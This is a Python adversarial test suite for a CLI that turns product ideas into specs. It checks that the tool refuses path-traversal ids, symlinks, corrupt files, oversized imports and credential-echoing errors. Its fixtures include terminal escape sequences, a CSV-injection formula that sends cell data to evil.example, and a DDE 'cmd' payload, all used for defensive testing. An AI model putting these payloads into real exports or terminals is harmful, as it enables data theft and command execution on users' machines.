"""An adversarial pass over the CLI, the session folder and the exports: ≥ 50 attacks.

Usage: ``.venv/bin/python tests/attacks.py [-k SUBSTRING] [--list]`` (``tests/test_attacks.py``
runs the same list in the default suite).

Every attack runs the real CLI in this process (``haytham.cli.main``) on the replay provider,
against its own copy of a prepared session, and checks an outcome a user can see: the exit
code, one message and no traceback, the bytes of a file outside the session, what the exports
and the terminal output contain, what ``resume`` re-runs. Classes: bad ids, symlinks, corrupt or
missing session files, model text carrying terminal escapes, spreadsheet formulas and table
breakers (through a cassette), provider errors that echo credentials, huge or odd inputs, and
received data (issue 29): state rows naming code, import bundles over the caps, PDFs of long
items and many scripts, pages of a session whose every string holds an image, a link and HTML,
and assets fetched from outside hosts.
It prints one line per attack and ``passed N/M``; the exit code is 0 only when all pass.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import csv
import io
import json
import os
import shutil
import sqlite3
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

from strands.models import Model
from strands.types.exceptions import ContextWindowOverflowException

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

import haytham.models.factory as factory  # noqa: E402
from haytham.cli import main as cli_main  # noqa: E402

CASSETTE_DIR = ROOT / "tests" / "fixtures" / "cassettes" / "power_of_8" / "full"
IDEA = (ROOT / "tests" / "fixtures" / "ideas" / "power_of_8.md").read_text(encoding="utf-8")
SID = "attack-base"
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


class Failed(AssertionError):
    """An attack got through: the message says what a user would have seen."""


@dataclass
class Result:
    code: int
    out: str
    err: str


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    run: Callable[[Lab], None]


def check(ok: bool, why: str) -> None:
    if not ok:
        raise Failed(why)


def clean_failure(res: Result, codes: tuple[int, ...] = (1, 2)) -> None:
    """Refused with a short message, the right exit code and no traceback."""
    check(res.code in codes, f"exit {res.code}, expected one of {codes}; stderr: {res.err[-300:]}")
    check("Traceback" not in res.err + res.out, f"a traceback reached the user: {res.err[-300:]}")
    lines = [ln for ln in res.err.splitlines() if ln.strip()]
    check(0 < len(lines) <= 4, f"expected one short message, got {len(lines)} lines")


def no_traceback(res: Result) -> None:
    check("Traceback" not in res.err + res.out, f"a traceback reached the user: {res.err[-300:]}")


def tree_bytes(root: Path) -> dict[str, bytes]:
    """Every regular file under ``root`` (not following links) and its bytes."""
    found: dict[str, bytes] = {}
    if not root.exists():
        return found
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            found[str(path.relative_to(root))] = path.read_bytes()
    return found


class Lab:
    """Prepared sessions (built once) and a fresh copy for each attack."""

    def __init__(self, scratch: Path) -> None:
        self.scratch = scratch
        self.cassette = CASSETTE_DIR
        self.bases: dict[str, Path] = {}
        self.counter = 0

    # -- running the CLI -------------------------------------------------------------------------
    def cli(self, sessions: Path, *argv: str, cassette: Path | None = None) -> Result:
        out, err = io.StringIO(), io.StringIO()
        args = [*argv, "--provider", "replay", "--cassette", str(cassette or self.cassette)]
        args += ["--sessions-dir", str(sessions)]
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = cli_main(args)
            except SystemExit as exc:  # argparse
                code = exc.code if isinstance(exc.code, int) else 2
        return Result(int(code or 0), out.getvalue(), err.getvalue())

    def plain(self, sessions: Path, *argv: str) -> Result:
        """A command that takes no provider options (validate)."""
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                code = cli_main([*argv, "--sessions-dir", str(sessions)])
            except SystemExit as exc:
                code = exc.code if isinstance(exc.code, int) else 2
        return Result(int(code or 0), out.getvalue(), err.getvalue())

    # -- sessions ---------------------------------------------------------------------------------
    def base(self, name: str, *, until: str | None, cassette: Path | None = None) -> Path:
        """A sessions folder holding session ``SID``: at Gate 1 (``until='gate-1'``) or done."""
        key = f"{name}:{cassette}"
        if key not in self.bases:
            sessions = self.scratch / f"base-{len(self.bases)}" / "sessions"
            idea = self.scratch / f"idea-{len(self.bases)}.md"
            idea.write_text(IDEA, encoding="utf-8")
            argv = ["run", "--idea-file", str(idea), "--session-id", SID, "--quiet"]
            argv += ["--until", until] if until else ["--auto-approve"]
            res = self.cli(sessions, *argv, cassette=cassette)
            if res.code != 0:
                raise RuntimeError(f"could not prepare the {name} session: {res.err}")
            self.bases[key] = sessions
        return self.bases[key]

    def fresh(self, name: str = "done", **kw: Any) -> tuple[Path, Path]:
        """A private copy of a prepared sessions folder: (sessions dir, session folder)."""
        until = None if name == "done" else "gate-1"
        base = self.base(name, until=until, **kw)
        self.counter += 1
        sessions = self.scratch / f"attack-{self.counter}" / "sessions"
        shutil.copytree(base, sessions, symlinks=True)
        return sessions, sessions / SID

    def empty(self) -> Path:
        self.counter += 1
        return self.scratch / f"attack-{self.counter}" / "sessions"

    def outside(self, text: str = "outside file: must never change\n") -> Path:
        self.counter += 1
        path = self.scratch / f"outside-{self.counter}.txt"
        path.write_text(text, encoding="utf-8")
        return path


ATTACKS: list[Attack] = []


def attack(kind: str, name: str) -> Callable[[Callable[[Lab], None]], Callable[[Lab], None]]:
    def register(fn: Callable[[Lab], None]) -> Callable[[Lab], None]:
        ATTACKS.append(Attack(name, kind, fn))
        return fn

    return register


# -- bad session ids ------------------------------------------------------------------------------
BAD_IDS = {
    "dotdot": "..",
    "parent-path": "../outside",
    "10k-chars": "a" * 10_000,
    "nul": "x\x00y",
    "tracking": "_tracking",
    "tilde": "~root",
    "fullwidth": "ＡＢＣ",
    "leading-space": " lead",
    "nested-escape": "abc/../../etc",
    "65-chars": "a" * 65,
    "newline": "abc\n",
    "empty": "",
}
ID_COMMANDS = (
    ("status",),
    ("show", "{id}", "idea-analysis"),
    ("export",),
    ("resume",),
    ("approve", "{id}", "--gate", "1"),
    ("clear-from", "{id}", "market-context"),
)


def _bad_id(label: str, bad: str, command: tuple[str, ...]) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, _ = lab.fresh()
        before = tree_bytes(sessions.parent)
        argv = [command[0], bad] if len(command) == 1 else [a.format(id=bad) for a in command]
        res = lab.cli(sessions, *argv)
        clean_failure(res, (2,))
        check(bad not in res.err or len(bad) < 80, "a long id was echoed back")
        check(tree_bytes(sessions.parent) == before, "the sessions folder changed")

    return run


for i, (label, bad) in enumerate(BAD_IDS.items()):
    cmd = ID_COMMANDS[i % len(ID_COMMANDS)]
    attack("bad id", f"{cmd[0]} with id {label}")(_bad_id(label, bad, cmd))


@attack("bad id", "validate with a 10,000-character target")
def _validate_long(lab: Lab) -> None:
    res = lab.plain(lab.empty(), "validate", "x" * 10_000)
    clean_failure(res, (2,))


@attack("bad id", "validate with a NUL in the target")
def _validate_nul(lab: Lab) -> None:
    res = lab.plain(lab.empty(), "validate", "abc\x00def")
    clean_failure(res, (2,))


# -- symlinks -------------------------------------------------------------------------------------
SYMLINKED_FILES = (
    ".lock",
    "events.jsonl",
    "state.db",
    "gates.json",
    "session.json",
    "summary.json",
    "concept_anchor.json",
    "stages/01-idea-analysis/output.json",
)


def _symlinked(rel: str) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, folder = lab.fresh("gate1")
        target = lab.outside()
        before = target.read_bytes()
        link = folder / rel
        link.unlink(missing_ok=True)
        link.symlink_to(target)
        for argv in (
            ("approve", SID, "--gate", "1", "--quiet"),
            ("clear-from", SID, "idea-analysis"),
        ):
            res = lab.cli(sessions, *argv)
            no_traceback(res)
            check(target.read_bytes() == before, f"{' '.join(argv[:1])} wrote through {rel}")
        res = lab.plain(sessions, "validate", SID)
        no_traceback(res)

    return run


for rel in SYMLINKED_FILES:
    attack("symlink", f"{rel} is a symlink to an outside file")(_symlinked(rel))


@attack("symlink", "a symlinked session folder is refused by status, resume and validate")
def _symlinked_folder(lab: Lab) -> None:
    sessions, folder = lab.fresh()
    real = lab.scratch / f"moved-{lab.counter}"
    shutil.move(str(folder), real)
    folder.symlink_to(real, target_is_directory=True)
    before = tree_bytes(real)
    for argv in (("status", SID), ("resume", SID)):
        clean_failure(lab.cli(sessions, *argv), (1, 2))
    clean_failure(lab.plain(sessions, "validate", SID), (1, 2))
    clean_failure(lab.plain(sessions, "validate", str(folder)), (1, 2))
    check(tree_bytes(real) == before, "the linked folder changed")


# -- corrupt or missing session files -------------------------------------------------------------
def _stage_starts(folder: Path) -> int:
    lines = (folder / "events.jsonl").read_text(encoding="utf-8").splitlines()
    return sum(json.loads(ln).get("type") == "stage_started" for ln in lines if ln.strip())


def _outputs_in_export(lab: Lab, sessions: Path, sid: str) -> int:
    res = lab.cli(sessions, "export", sid, "--format", "json")
    check(res.code == 0, f"export failed: {res.err[-200:]}")
    data = json.loads(res.out)
    stages = data.get("stages") or data.get("outputs") or {}
    return len(stages)


def _lost_db(how: str) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, folder = lab.fresh()
        expected = _outputs_in_export(lab, sessions, SID)
        starts = _stage_starts(folder)
        db = folder / "state.db"
        if how == "deleted":
            db.unlink()
        elif how == "emptied":
            db.write_bytes(b"")
        else:  # table emptied: a valid database without our rows
            with sqlite3.connect(db) as conn:
                conn.execute("DELETE FROM burr_state")
        stage_files = tree_bytes(folder / "stages")
        res = lab.cli(sessions, "status", SID, "--json")
        no_traceback(res)
        res = lab.cli(sessions, "resume", SID, "--quiet")
        no_traceback(res)
        check(_stage_starts(folder) == starts, f"resume re-ran stages after the database was {how}")
        check(tree_bytes(folder / "stages") == stage_files, "completed stage files were changed")
        got = _outputs_in_export(lab, sessions, SID)
        check(
            got == expected,
            f"export holds {got} stages after the database was {how}, not {expected}",
        )

    return run


for how in ("deleted", "emptied", "table-emptied"):
    attack("corrupt file", f"state.db {how}: nothing re-run, export complete")(_lost_db(how))


@attack("corrupt file", "a session folder copied under a new id keeps its work")
def _copied(lab: Lab) -> None:
    sessions, folder = lab.fresh()
    expected = _outputs_in_export(lab, sessions, SID)
    copy = sessions / "attack-copy"
    shutil.copytree(folder, copy)
    starts = _stage_starts(copy)
    res = lab.cli(sessions, "resume", "attack-copy", "--quiet")
    no_traceback(res)
    check(_stage_starts(copy) == starts, "resume of the copy re-ran stages")
    check(_outputs_in_export(lab, sessions, "attack-copy") == expected, "the copy lost outputs")
    check(_outputs_in_export(lab, sessions, SID) == expected, "the original lost outputs")


def _corrupt(rel: str, data: bytes, command: str) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, folder = lab.fresh()
        (folder / rel).write_bytes(data)
        res = lab.cli(sessions, command, SID)
        no_traceback(res)
        check(res.code in (0, 1), f"{command} exit {res.code}")
        others = lab.cli(sessions, "sessions")
        check(others.code == 0, "listing sessions failed")

    return run


CORRUPTIONS = (
    ("state.db", b"this is not a database" * 100, "status"),
    ("session.json", b'{"session_id": ', "resume"),
    ("events.jsonl", b'{"type": "stage_started"\n\x00\xff\n', "status"),
    ("gates.json", b"[", "resume"),
    ("idea.md", b"\xff\xfe\x00", "status"),
)
for rel, data, command in CORRUPTIONS:
    attack("corrupt file", f"{rel} corrupted, then {command}")(_corrupt(rel, data, command))


@attack("corrupt file", "clear-from removes every later file and summary row")
def _clear_from(lab: Lab) -> None:
    sessions, folder = lab.fresh()
    res = lab.cli(sessions, "clear-from", SID, "mvp-scope")
    check(res.code == 0, f"clear-from failed: {res.err[-200:]}")
    later = [
        p.name
        for p in (folder / "stages").iterdir()
        if p.name[:2].isdigit() and int(p.name[:2]) >= 5
    ]
    check(not later, f"later stage folders left behind: {later}")
    verifications = sorted(p.stem for p in (folder / "verifications").glob("*.json"))
    check(set(verifications) <= {"why"}, f"later verifications left behind: {verifications}")
    summary = json.loads((folder / "summary.json").read_text(encoding="utf-8"))
    rows = summary.get("stages", summary)
    done_later = [
        s
        for s in ("mvp-scope", "capability-model", "story-generation")
        if (rows.get(s) or {}).get("status") == "completed"
    ]
    check(not done_later, f"summary still lists cleared stages as completed: {done_later}")


@attack("corrupt file", "a stage_completed event without a saved state is not completion")
def _event_ahead(lab: Lab) -> None:
    sessions, folder = lab.fresh("gate1")
    with (folder / "events.jsonl").open("a", encoding="utf-8") as log:
        for kind in ("stage_started", "stage_completed"):
            log.write(
                json.dumps(
                    {"type": kind, "stage": "mvp-scope", "ts": "2026-01-01T00:00:00Z", "data": {}}
                )
                + "\n"
            )
    res = lab.cli(sessions, "status", SID, "--json")
    check(res.code == 0, f"status failed: {res.err[-200:]}")
    row = json.loads(res.out)["summary"]["stages"].get("mvp-scope", {})
    check(row.get("status") != "completed", "status trusts an event the state never saved")


# -- model text: terminal escapes, spreadsheet formulas, table breakers ---------------------------
ESCAPES = "\x1b[2J\x1b[31mRED\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x9b31m\x07"
FORMULAS = (
    '=HYPERLINK("http://evil.example?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def _poisoned_cassette(scratch: Path) -> Path:
    """The full cassette with escapes and formulas in story titles, criteria and a TL;DR."""
    folder = scratch / "poisoned"
    if folder.exists():
        return folder
    shutil.copytree(CASSETTE_DIR, folder)
    path = folder / "pipeline.jsonl"
    lines = []
    for line in path.read_text(encoding="utf-8").splitlines():
        turn = json.loads(line)
        for part in turn["response"]:
            tool = part.get("input")
            if not isinstance(tool, dict):
                continue
            if turn["agent"] == "idea-analysis":
                tool["tldr"] = f"{ESCAPES} {tool['tldr']}"
                tool["content"] = f"{ESCAPES}\n{tool['content']}\nrow | with | pipes\r\nand a CR"
            if turn["agent"] == "story-generation":
                for story, formula in zip(tool["payload"]["stories"], FORMULAS * 3, strict=False):
                    story["title"] = f"{formula} {story['title']}"
                    story["description"] = (
                        f"{formula}\r\n| broken | table |\n{story['description']}"
                    )
                    story["acceptance_criteria"] = [formula, *story["acceptance_criteria"]]
        lines.append(json.dumps(turn, ensure_ascii=False))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def _no_controls(text: str, where: str) -> None:
    bad = sorted(
        {
            f"U+{ord(c):04X}"
            for c in text
            if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F
        }
    )
    check(not bad, f"{where} prints control characters {bad}")


@attack("model text", "show prints no terminal escapes from model text")
def _show_escapes(lab: Lab) -> None:
    sessions, _ = lab.fresh(cassette=_poisoned_cassette(lab.scratch))
    res = lab.cli(sessions, "show", SID, "idea-analysis")
    check(res.code == 0, f"show failed: {res.err[-200:]}")
    _no_controls(res.out, "show")


@attack("model text", "status prints no terminal escapes from model text")
def _status_escapes(lab: Lab) -> None:
    sessions, _ = lab.fresh(cassette=_poisoned_cassette(lab.scratch))
    res = lab.cli(sessions, "status", SID)
    check(res.code == 0, f"status failed: {res.err[-200:]}")
    _no_controls(res.out, "status")


def _formula_cells(fmt: str) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, _ = lab.fresh(cassette=_poisoned_cassette(lab.scratch))
        res = lab.cli(sessions, "export", SID, "--format", fmt)
        check(res.code == 0, f"export failed: {res.err[-200:]}")
        rows = list(csv.reader(io.StringIO(res.out)))
        check(len(rows) > 1, "no rows exported")
        dangerous = [c[:30] for row in rows for c in row if c.lstrip(" ").startswith(FORMULA_LEADS)]
        check(not dangerous, f"{fmt} cells a spreadsheet would run as formulas: {dangerous[:3]}")
        joined = "\n".join(c for row in rows for c in row)
        check("HYPERLINK" in joined and "cmd|" in joined, "the text was dropped, not neutralised")

    return run


for fmt in ("csv", "jira", "linear"):
    attack("export", f"{fmt} export neutralises formula-leading cells")(_formula_cells(fmt))


@attack("export", "markdown export keeps its tables intact with CR and pipes in cells")
def _markdown_tables(lab: Lab) -> None:
    sessions, _ = lab.fresh(cassette=_poisoned_cassette(lab.scratch))
    res = lab.cli(sessions, "export", SID, "--format", "markdown")
    check(res.code == 0, f"export failed: {res.err[-200:]}")
    check("\r" not in res.out, "a carriage return reached the Markdown export")
    _no_controls(res.out, "the markdown export")


@attack("model text", "show of every stage prints no control characters")
def _show_all(lab: Lab) -> None:
    sessions, _ = lab.fresh(cassette=_poisoned_cassette(lab.scratch))
    for stage in ("idea-analysis", "story-generation", "anchor"):
        res = lab.cli(sessions, "show", SID, stage)
        check(res.code == 0, f"show {stage} failed")
        _no_controls(res.out, f"show {stage}")


# -- provider errors that echo credentials ---------------------------------------------------------
def _leaky(
    message: str, secrets: tuple[str, ...], *, overflow: bool = False
) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        class Leaky(Exception):
            pass

        def raising(*args: Any, **kwargs: Any) -> Any:
            raise (ContextWindowOverflowException if overflow else Leaky)(message)

        class LeakyModel(Model):
            def update_config(self, **kw: Any) -> None: ...

            def get_config(self) -> Any:
                return {}

            async def structured_output(self, *a: Any, **kw: Any) -> Any:  # pragma: no cover
                raising()
                yield {}

            async def stream(self, *a: Any, **kw: Any) -> Any:
                raising()
                yield {}

        sessions = lab.empty()
        idea = lab.scratch / "leak-idea.md"
        idea.write_text(IDEA, encoding="utf-8")
        with mock.patch.object(factory, "_provider_model", lambda *a, **k: LeakyModel()):
            res = lab.cli(sessions, "run", "--idea-file", str(idea), "--quiet")
        no_traceback(res)
        check(res.code != 0, "the failing provider was not reported")
        status = lab.cli(sessions, "sessions")
        texts = [res.out, res.err, status.out]
        for sid in [
            p.name for p in sessions.iterdir() if p.is_dir() and not p.name.startswith("_")
        ]:
            texts.append(lab.cli(sessions, "status", sid).out)
        for path in sessions.rglob("*"):
            if path.is_file():
                texts.append(path.read_bytes().decode("utf-8", "replace"))
        for secret in secrets:
            check(not any(secret in t for t in texts), f"{secret[:6]}… leaked")

    return run


BASIC = base64.b64encode(b"founder:hunter2-secret-pass").decode()
LEAKS = {
    "a bearer token": (
        "401: headers {'Authorization': 'Bearer sk-attack-0123456789abcdef'}",
        ("sk-attack-0123456789abcdef",),
    ),
    "an x-api-key header": (
        "request failed; x-api-key: ak-attack-9876543210zyx",
        ("ak-attack-9876543210zyx",),
    ),
    "basic auth from URL userinfo": (
        f"401 for http://founder:hunter2-secret-pass@llm.example/v1 with Authorization: Basic {BASIC}",
        ("hunter2-secret-pass", BASIC),
    ),
    "a key in a query string": (
        "GET https://llm.example/v1/models?api_key=qk-attack-55555555 failed",
        ("qk-attack-55555555",),
    ),
}
for label, (message, secrets) in LEAKS.items():
    attack("credentials", f"a provider error echoing {label}")(_leaky(message, secrets))
attack("credentials", "a context overflow echoing a bearer token")(
    _leaky(
        "prompt too long; Authorization: Bearer sk-overflow-abcdef0123456789",
        ("sk-overflow-abcdef0123456789",),
        overflow=True,
    )
)


# -- huge or odd inputs ---------------------------------------------------------------------------
def _refused_idea(make_args: Callable[[Lab], list[str]]) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions = lab.empty()
        began = time.monotonic()
        res = lab.cli(sessions, "run", *make_args(lab), "--quiet")
        clean_failure(res, (2,))
        check(time.monotonic() - began < 20, "took too long to refuse")
        made = (
            [p.name for p in sessions.iterdir() if not p.name.startswith("_")]
            if sessions.exists()
            else []
        )
        check(not made, f"a session was created for refused input: {made}")

    return run


def _file(lab: Lab, data: bytes) -> str:
    lab.counter += 1
    path = lab.scratch / f"input-{lab.counter}"
    path.write_bytes(data)
    return str(path)


ODD_IDEAS: dict[str, Callable[[Lab], list[str]]] = {
    "--idea-file /dev/zero": lambda lab: ["--idea-file", "/dev/zero"],
    "a 50 MB idea file": lambda lab: ["--idea-file", _file(lab, b"word " * 10_000_000)],
    "invalid UTF-8 in --idea": lambda lab: [
        "--idea",
        "a founder idea \udcff\udcfe about many words " * 3,
    ],
    "an idea of zero-width spaces": lambda lab: ["--idea", "\u200b\u200c\u200d\u2060\ufeff " * 40],
    "a NUL in the idea": lambda lab: ["--idea", IDEA[:400] + "\x00"],
    "a 1 MB --idea": lambda lab: ["--idea", "long words " * 100_000],
    "an idea file of invalid UTF-8": lambda lab: [
        "--idea-file",
        _file(lab, b"\xff\xfe idea " * 50),
    ],
    "a missing idea file": lambda lab: ["--idea-file", str(lab.scratch / "nope.md")],
    "an idea file that is a folder": lambda lab: ["--idea-file", str(lab.scratch)],
}
for label, make in ODD_IDEAS.items():
    attack("input", f"run refuses {label} and creates nothing")(_refused_idea(make))


@attack("input", "a spaceless CJK idea is measured by characters and accepted")
def _cjk(lab: Lab) -> None:
    sessions = lab.empty()
    idea = "一位心理学家想为他的现有患者开发一个私密应用程序，八名患者在线聚会，其中一人提出具体需求，其他七人发送善意。心理学家负责组建小组并主持会议，每位患者轮流担任接受者。"
    res = lab.cli(sessions, "run", "--idea", idea, "--until", "gate-1", "--quiet")
    check(res.code == 0, f"a CJK idea was refused: {res.err[-200:]}")


def _cassette_attack(data: bytes | None) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions = lab.empty()
        cassette = Path("/dev/zero") if data is None else Path(_file(lab, data))
        began = time.monotonic()
        res = lab.cli(sessions, "run", "--idea", IDEA, "--quiet", cassette=cassette)
        clean_failure(res, (1, 2))
        check(time.monotonic() - began < 20, "took too long to refuse")
        made = (
            [p.name for p in sessions.iterdir() if not p.name.startswith("_")]
            if sessions.exists()
            else []
        )
        check(not made, f"a session was created before the cassette failed: {made}")

    return run


attack("input", "a binary cassette fails before a session exists")(
    _cassette_attack(os.urandom(4096))
)
attack("input", "/dev/zero as a cassette fails quickly")(_cassette_attack(None))


def _export_to(where: Callable[[Lab, Path], Path]) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, _ = lab.fresh()
        target = where(lab, sessions)
        res = lab.cli(sessions, "export", SID, "--format", "csv", "--output", str(target))
        clean_failure(res, (1, 2))

    return run


EXPORT_TARGETS: dict[str, Callable[[Lab, Path], Path]] = {
    "a directory": lambda lab, s: s,
    "a missing folder": lambda lab, s: s / "no" / "such" / "folder" / "out.csv",
    "an unwritable place": lambda lab, s: Path("/proc/haytham-export.csv"),
    "a name that is too long": lambda lab, s: s / ("x" * 5000),
}
for label, where in EXPORT_TARGETS.items():
    attack("input", f"export --output to {label} fails with one sentence")(_export_to(where))


# -- received data (issue 29): data never names code, bounded import, safe pages and PDFs ------
MARKER_MODULE = "haytham_attack_marker"


@contextlib.contextmanager
def _marker_module(lab: Lab) -> Iterator[Path]:
    """A module on ``sys.path`` that writes a flag file when imported; yields the flag."""
    lab.counter += 1
    folder = lab.scratch / f"mods-{lab.counter}"
    folder.mkdir()
    flag = folder / "imported.txt"
    (folder / f"{MARKER_MODULE}.py").write_text(
        f"from pathlib import Path\nPath({str(flag)!r}).write_text('imported')\n",
        encoding="utf-8",
    )
    sys.path.insert(0, str(folder))
    sys.modules.pop(MARKER_MODULE, None)
    try:
        yield flag
    finally:
        sys.path.remove(str(folder))
        sys.modules.pop(MARKER_MODULE, None)


CODE_TAG = {"__burr_serde__": "pydantic", "__pydantic_class": f"{MARKER_MODULE}.M"}


def _row_names_code(command: tuple[str, ...]) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        sessions, folder = lab.fresh("gate-1")
        conn = sqlite3.connect(folder / "state.db")
        with conn:
            seq, text = conn.execute(
                "SELECT sequence_id, state FROM burr_state ORDER BY sequence_id DESC LIMIT 1"
            ).fetchone()
            row = {**json.loads(text), "extra": CODE_TAG}
            conn.execute(
                "UPDATE burr_state SET state = ? WHERE sequence_id = ?", (json.dumps(row), seq)
            )
        conn.close()
        with _marker_module(lab) as flag:
            res = lab.cli(sessions, *command)
        clean_failure(res)
        check(not flag.exists(), f"{command[0]} imported the module a state row named")

    return run


for _cmd in (("status", SID), ("export", SID), ("resume", SID, "--quiet")):
    attack("untrusted state", f"{_cmd[0]} of a state row naming a module imports nothing")(
        _row_names_code(_cmd)
    )


def _bundle(lab: Lab) -> dict[str, Any]:
    sessions, _ = lab.fresh("gate-1")
    res = lab.cli(sessions, "export", SID, "--format", "session")
    check(res.code == 0, f"export --format session failed: {res.err[-200:]}")
    return json.loads(res.out)


def _refused_bundle(
    make: Callable[[dict[str, Any]], dict[str, Any] | str],
) -> Callable[[Lab], None]:
    def run(lab: Lab) -> None:
        data = make(_bundle(lab))
        lab.counter += 1
        path = lab.scratch / f"bundle-{lab.counter}.json"
        path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
        target = lab.empty()
        started = time.monotonic()
        with _marker_module(lab) as flag:
            res = lab.cli(target, "import", str(path))
        took = time.monotonic() - started
        clean_failure(res)
        check(not tree_bytes(target), "a refused bundle left files behind")
        check(not flag.exists(), "the import loaded the module a bundle named")
        check(took < 30, f"refusing the bundle took {took:.0f} s")

    return run


def _with_files(extra: dict[str, str]) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda b: {**b, "files": {**b["files"], **extra}}


def _row_tagged(b: dict[str, Any]) -> dict[str, Any]:
    b["state"][-1]["state"]["outputs"] = CODE_TAG
    return b


BAD_BUNDLES: dict[str, Callable[[dict[str, Any]], dict[str, Any] | str]] = {
    "60,000 files": lambda b: {**b, "files": {f"f{n}.md": "" for n in range(60_000)}},
    "a 5 MiB member": _with_files({"idea.md": "x" * (5 * 2**20)}),
    "200,000 nested brackets": lambda b: (
        json.dumps(b)[:-1] + ', "x": ' + "[" * 200_000 + "]" * 200_000 + "}"
    ),
    "a member nested 100,000 deep": _with_files({"gates.json": "[" * 100_000}),
    "a text member named state.db": _with_files({"state.db": "not a database"}),
    "a member named .lock": _with_files({".lock": "1"}),
    "a member outside the session": _with_files({"../../outside.md": "x"}),
    "a state row naming a module": _row_tagged,
}
for _label, _make in BAD_BUNDLES.items():
    attack("import bounds", f"import refuses {_label}, quickly, writing nothing")(
        _refused_bundle(_make)
    )


def _rewrite_state(folder: Path, change: Callable[[Any], Any]) -> None:
    """Save ``change(state)`` as the session's next step (as a run would have)."""
    from haytham.runs.session_state import load_state_seq, save_state
    from haytham.storage.folder import SessionStore

    files = SessionStore(folder.parent).open(folder.name)
    state, seq = load_state_seq(files)
    row = files.state_rows(latest=True)[0]
    save_state(files, seq + 1, row.position, change(state), row.status)


SCRIPT_SENTENCES = (
    "This is a test sentence.",
    "यह एक परीक्षण वाक्य है",
    "এটি একটি পরীক্ষা বাক্য",
    "இது ஒரு சோதனை வாக்கியம்",
    "นี่คือประโยคทดสอบ",
    "ይህ የሙከራ ዓረፍተ ነገር ነው",
    "这是一个测试句子",
    "이것은 테스트 문장입니다",
)


def _pdf_text(lab: Lab, sessions: Path) -> str:
    lab.counter += 1
    out = lab.scratch / f"spec-{lab.counter}.pdf"
    res = lab.cli(sessions, "export", SID, "--format", "pdf", "--output", str(out))
    check(res.code == 0, f"the PDF export failed: {res.err[-300:]}")
    if not shutil.which("pdftotext"):
        return ""
    import subprocess

    return subprocess.run(
        ["pdftotext", str(out), "-"], capture_output=True, text=True, check=True
    ).stdout


@attack("pdf", "a 5,000-word scope item exports to a PDF that holds all of it")
def _long_item_pdf(lab: Lab) -> None:
    from haytham.stages import mvp_scope

    sessions, folder = lab.fresh()
    words = " ".join(f"w{i}" for i in range(5000))

    def longer(state: Any) -> Any:
        out = state.outputs[mvp_scope.SPEC.slug]
        payload = out.payload.model_dump()
        payload["in_scope"][0]["title"] = words
        outputs = {**state.outputs}
        outputs[mvp_scope.SPEC.slug] = out.model_copy(
            update={"payload": type(out.payload).model_validate(payload)}
        )
        return state.model_copy(update={"outputs": outputs})

    _rewrite_state(folder, longer)
    text = " ".join(_pdf_text(lab, sessions).split())
    check(not text or ("w0" in text and "w4999" in text), "the long item lost words")


@attack("pdf", "a sentence in each of 8 scripts comes back out of the PDF")
def _scripts_pdf(lab: Lab) -> None:
    sessions, folder = lab.fresh()
    _rewrite_state(folder, lambda s: s.model_copy(update={"idea": "\n".join(SCRIPT_SENTENCES)}))
    text = _pdf_text(lab, sessions)
    lost = [s for s in SCRIPT_SENTENCES if text and s not in text]
    check(not lost, f"printed as boxes or lost: {lost}")


@attack("ui text", "every page of a session whose every string holds an image, a link and HTML")
def _ui_everywhere(lab: Lab) -> None:
    from test_ui_injection import live, rendered
    from test_ui_support import app
    from untrusted_helpers import poison_session

    from haytham.storage.folder import SessionStore

    sessions, folder = lab.fresh()
    poison_session(SessionStore(sessions).open(SID))
    keep = dict(os.environ)
    os.environ.update({"HAYTHAM_SESSIONS_DIR": str(sessions), "HAYTHAM_PROVIDER": "replay"})
    os.environ["HAYTHAM_CASSETTE"] = str(lab.cassette)
    try:
        for page in ("verdict", "gate_1", "gate_2", "gate_3", "gate_4", "stories", "fidelity"):
            at = app(SID, f"views/{page}.py")
            check(not at.exception, f"{page}: {at.exception}")
            found = [live(b) for b in rendered(at) if live(b)]
            check(not found, f"{page} renders live Markdown: {found[:3]}")
    finally:
        os.environ.clear()
        os.environ.update(keep)


@attack("outside requests", "the page icon and the app's assets are files the app serves")
def _local_assets(lab: Lab) -> None:
    import ast

    app_py = ROOT / "frontend_streamlit" / "app.py"
    tree = ast.parse(app_py.read_text(encoding="utf-8"))
    calls = [
        n
        for n in ast.walk(tree)
        if isinstance(n, ast.Call) and getattr(n.func, "attr", "") == "set_page_config"
    ]
    check(len(calls) == 1, "the app sets its page config once")
    icon = next((k.value for k in calls[0].keywords if k.arg == "page_icon"), None)
    check(icon is not None, "no page icon: Streamlit picks an emoji, fetched from a CDN")
    check(
        not (isinstance(icon, ast.Constant) and isinstance(icon.value, str)),
        "the page icon is a Material or emoji name, which the browser fetches from a font host",
    )
    check((ROOT / "frontend_streamlit" / "static" / "icon.png").is_file(), "the icon is missing")
    config = (ROOT / "frontend_streamlit" / ".streamlit" / "config.toml").read_text("utf-8")
    check("http" not in config, "the Streamlit config names an outside address")


# -- running ---------------------------------------------------------------------------------------
